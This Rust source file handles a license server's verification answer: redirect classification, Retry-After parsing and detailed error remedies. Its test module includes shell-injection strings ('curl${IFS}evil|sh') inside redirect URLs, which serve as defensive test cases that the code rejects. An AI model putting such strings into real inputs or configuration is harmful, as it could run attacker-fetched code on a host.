//! The license server's answer, or the sentence for an answer that does not come or is none.

use std::io::{self, ErrorKind};
use std::time::Duration;

use rustls::Error as TlsError;
use serde_json::Value;
use ureq::http::HeaderMap;

use crate::license::client::fault::{Fault, Step, seconds, words};
use crate::license::client::http::{self, MAX_HEAD, Progress};
use crate::license::client::route::Opened;
use crate::license::client::tls_fault::{self, Peer};
use crate::license::client::url::{ServerUrl, VERIFICATION_PATH};
use opterius_base::clock::Timestamp;
use opterius_base::text::one_line;
use opterius_http::response::parse_date;
use opterius_license::outcome::{Answer, Destination, MAX_BODY};
use opterius_license::signature;

/// Sends `body` to the verification endpoint over an open connection, and returns the answer. `limit` is the time limit
/// of the connection, for the sentence about it.
///
/// # Errors
/// Why there is no answer.
pub fn ask(server: &ServerUrl, opened: Opened, body: &[u8], limit: Duration) -> Result<Answer, Fault> {
    let Opened { stream, client_certificate } = opened;
    let (agent, progress) = http::over(stream);
    let wants_certificate = || client_certificate.as_ref().is_some_and(|wanted| wanted.is_wanted());
    let explain = |error| explain(server, error, &progress, limit, wants_certificate());
    let mut response =
        agent.post(server.verification()).header("Content-Type", "application/json").send(body).map_err(explain)?;
    let most = u64::try_from(MAX_BODY).unwrap_or(u64::MAX).saturating_add(1);
    let body = match response.body_mut().with_config().limit(most).read_to_vec() {
        // One byte more than an answer can have: `outcome::read` reports it.
        Err(ureq::Error::BodyExceedsLimit(_)) => vec![b' '; MAX_BODY.saturating_add(1)],
        body => body.map_err(|error| match &error {
            ureq::Error::Io(cause) if is_end(cause) => cut(server),
            ureq::Error::Protocol(_) => {
                fault(server, Step::Answer, "the answer is damaged", log_of(server)).malformed()
            }
            _ => explain(error),
        })?,
    };
    let status = response.status().as_u16();
    // Some servers name a character set in `Content-Encoding`, so the body decides; that of another status says nothing.
    if let Some(coding) = coding(response.headers()).filter(|_| matches!(status, 200..=299 | 400..=428))
        && serde_json::from_slice::<Value>(&body).is_err()
    {
        return Err(encoded(server, &coding));
    }
    Ok(answer(server, status, response.headers(), body))
}

fn answer(server: &ServerUrl, status: u16, headers: &HeaderMap, body: Vec<u8>) -> Answer {
    let text = |name: &str| headers.get(name).and_then(|value| value.to_str().ok());
    let date = text("date").and_then(parse_date);
    let retry_after = text("retry-after").and_then(|value| retry_after(value, date));
    let signatures = headers.get_all(signature::HEADER).iter().filter_map(|value| value.to_str().ok());
    let kept = |name: &str| text(name).map(str::to_owned);
    Answer {
        status,
        date,
        retry_after,
        signature: signatures.collect::<Vec<_>>().join(", "),
        location: kept("location"),
        destination: text("location").map_or(Destination::Elsewhere, |target| destination(server, target.trim())),
        content_type: kept("content-type"),
        body,
    }
}

/// What `license_server` would have to be for the target of a redirect.
fn destination(server: &ServerUrl, target: &str) -> Destination {
    let path = target.starts_with('/') && !target.starts_with("//");
    let absolute = if path { format!("{}{target}", server.origin()) } else { target.to_owned() };
    let end = absolute.find(['?', '#']).unwrap_or(absolute.len());
    let base = absolute.get(..end).and_then(|url| url.trim_end_matches('/').strip_suffix(VERIFICATION_PATH));
    // It goes into agent.conf, perhaps through a shell.
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~:/[]".contains(&byte);
    match base.map(ServerUrl::parse) {
        Some(Ok(url)) if url.base().eq_ignore_ascii_case(server.base()) => Destination::Here,
        Some(Ok(url)) if !url.is_plain() && url.base().bytes().all(is_plain) => {
            Destination::Base(url.base().to_owned())
        }
        _ => Destination::Elsewhere,
    }
}

/// The content coding, which the Agent did not ask for.
fn coding(headers: &HeaderMap) -> Option<String> {
    let coding = headers.get("content-encoding")?.to_str().ok()?.trim();
    let is_coded = !coding.is_empty() && !coding.eq_ignore_ascii_case("identity");
    is_coded.then(|| one_line(coding, 20))
}

/// RFC 9110 §10.2.3: seconds, or a date, which is compared with the answer's own `Date`.
fn retry_after(value: &str, date: Option<Timestamp>) -> Option<Duration> {
    if let Ok(seconds) = value.trim().parse() {
        return Some(Duration::from_secs(seconds));
    }
    Some(parse_date(value)?.since(date?))
}

// ---------------------------------------------------------------------------------------------------------------------
// Failures.

/// Whether the connection ended.
fn is_end(error: &io::Error) -> bool {
    matches!(error.kind(), ErrorKind::UnexpectedEof | ErrorKind::ConnectionReset | ErrorKind::BrokenPipe)
}

fn fault(server: &ServerUrl, step: Step, sentence: impl AsRef<str>, remedy: impl Into<String>) -> Fault {
    let what = if step == Step::Send { "sending the request to" } else { "waiting for the answer of" };
    Fault::new(step, format!("{what} {}: {}", server.host(), sentence.as_ref()), remedy)
}

/// The command that sends a request like the Agent's.
fn look(server: &ServerUrl) -> String {
    format!("curl -sSv -d '{{}}' {}", server.verification())
}

/// What the web server's log can tell.
fn log_of(server: &ServerUrl) -> String {
    format!("see the log of the web server of {}, or ask its operator: {}", server.host(), look(server))
}

fn cut(server: &ServerUrl) -> Fault {
    fault(server, Step::Answer, "the connection ended before the answer was complete", log_of(server))
}

fn encoded(server: &ServerUrl, coding: &str) -> Fault {
    let sentence = format!("the answer is compressed ({coding}), which the Agent did not ask for");
    let remedy = format!(
        "switch compression off for /api/license/verify in the web server, proxy or CDN of {}: {}",
        server.host(),
        look(server)
    );
    fault(server, Step::Answer, sentence, remedy).malformed()
}

/// The sentence and the remedy for an exchange that failed.
fn explain(
    server: &ServerUrl,
    error: ureq::Error,
    progress: &Progress,
    limit: Duration,
    wants_certificate: bool,
) -> Fault {
    let step = if progress.is_sent() { Step::Answer } else { Step::Send };
    let begun = !progress.begin().is_empty();
    match error {
        ureq::Error::Io(error) => {
            let peer = Peer::of(server);
            let is_tls = error.get_ref().is_some_and(|error| error.is::<TlsError>());
            if wants_certificate && !begun && (is_tls || is_end(&error)) {
                return tls_fault::client_certificate(&peer);
            }
            match error.kind() {
                _ if is_tls => tls_fault::handshake(&peer, &error, None, wants_certificate),
                ErrorKind::TimedOut if begun => fault(
                    server,
                    step,
                    format!("the answer was not complete within {} s", seconds(limit)),
                    log_of(server),
                ),
                ErrorKind::TimedOut => {
                    fault(server, step, format!("no answer within {} s", seconds(limit)), log_of(server))
                }
                _ if begun && is_end(&error) => unreadable(server, progress).unwrap_or_else(|| cut(server)),
                ErrorKind::UnexpectedEof => {
                    fault(server, step, "the server closed the connection without an answer", log_of(server))
                }
                _ => fault(server, step, words(&error), log_of(server)),
            }
        }
        ureq::Error::LargeResponseHeader(..) | ureq::Error::Protocol(_)
            if unreadable(server, progress).is_none() && progress.begin().starts_with(b"HTTP/1.") =>
        {
            fault(
                server,
                step,
                format!("the head of the answer is longer than {} KiB or damaged", MAX_HEAD / 1024),
                log_of(server),
            )
            .malformed()
        }
        _ => unreadable(server, progress).unwrap_or_else(|| {
            let sentence = "what answers there does not speak HTTP/1.1";
            fault(
                server,
                step,
                sentence,
                format!("check host and port in license_server of agent.conf: {}", look(server)),
            )
            .malformed()
        }),
    }
}

/// An answer in another protocol, known by its first bytes.
fn unreadable(server: &ServerUrl, progress: &Progress) -> Option<Fault> {
    let (sentence, remedy) = match progress.begin() {
        // An alert or handshake record of TLS (RFC 8446 §5.1).
        [0x15 | 0x16, 3, ..] => (
            format!("port {} speaks TLS", server.port()),
            format!("write https:// instead of http:// in license_server of agent.conf: {}", look(server)),
        ),
        // The frame of the server's settings (RFC 9113 §3.4, §6.5).
        [_, _, _, 4, 0 | 1, 0, 0, 0, 0, ..] => (
            "the answer is HTTP/2, though the Agent speaks HTTP/1.1".to_owned(),
            format!("the operator of {} must serve HTTP/1.1 on port {} as well (ALPN)", server.host(), server.port()),
        ),
        _ => return None,
    };
    Some(fault(server, Step::Answer, sentence, remedy).malformed())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_redirect_leads_to_a_base_url_that_agent_conf_accepts() {
        let server = ServerUrl::parse("https://old.example.com:8443/base").unwrap();
        let moved = |base: &str| Destination::Base(base.to_owned());
        let verify = VERIFICATION_PATH;
        for (target, expected) in [
            (format!("https://new.example.com{verify}"), moved("https://new.example.com")),
            (format!("HTTPS://new.example.com:9443/b{verify}/?from=old#x"), moved("HTTPS://new.example.com:9443/b")),
            (format!("https://[2001:db8::1]{verify}"), moved("https://[2001:db8::1]")),
            (format!("/new{verify}"), moved("https://old.example.com:8443/new")),
            (verify.to_owned(), moved("https://old.example.com:8443")),
            (server.verification(), Destination::Here),
            (
                format!("{}/?a=b", server.verification().to_uppercase().replace("/API/LICENSE/VERIFY", verify)),
                Destination::Here,
            ),
            (format!("/base{verify}"), Destination::Here),
            (format!("//new.example.com{verify}"), Destination::Elsewhere),
            (format!("http://new.example.com{verify}"), Destination::Elsewhere),
            (format!("http://127.0.0.1{verify}"), Destination::Elsewhere),
            (format!("https://user:word@new.example.com{verify}"), Destination::Elsewhere),
            (format!("https://a;curl${{IFS}}evil|sh{verify}"), Destination::Elsewhere),
            (format!("https://a/;curl${{IFS}}evil|sh{verify}"), Destination::Elsewhere),
            (format!("https://new.example.com/ a{verify}"), Destination::Elsewhere),
            (format!("https://{verify}"), Destination::Elsewhere),
            ("https://new.example.com/login".to_owned(), Destination::Elsewhere),
            (String::new(), Destination::Elsewhere),
        ] {
            assert_eq!(destination(&server, &target), expected, "{target}");
        }
    }

    #[test]
    fn retry_after_is_seconds_or_a_date() {
        let date = parse_date("Sun, 01 Mar 2026 00:00:00 GMT");
        assert_eq!(retry_after("120", None), Some(Duration::from_secs(120)));
        assert_eq!(retry_after("Sun, 01 Mar 2026 00:02:00 GMT", date), Some(Duration::from_secs(120)));
        assert_eq!(retry_after("Sat, 28 Feb 2026 00:00:00 GMT", date), Some(Duration::ZERO));
        for (value, date) in [("Sun, 01 Mar 2026 00:02:00 GMT", None), ("-1", date), ("soon", date), ("1e3", date)] {
            assert_eq!(retry_after(value, date), None, "{value}");
        }
    }
}
